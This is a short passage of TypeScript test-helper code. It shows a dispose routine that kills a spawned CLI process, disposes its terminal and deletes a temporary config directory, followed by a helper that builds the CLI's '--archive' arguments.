        () => screen().join('\n'),
      ),
    dispose() {
      if (!exitedFlag) child.kill('SIGKILL');
      term.dispose();
      rmSync(configDir, { recursive: true, force: true });
    },
  };
}

/** The built CLI, for spawnWatched. */
export const CLI_ARGS = (root: string): string[] => [CLI, '--archive', root];
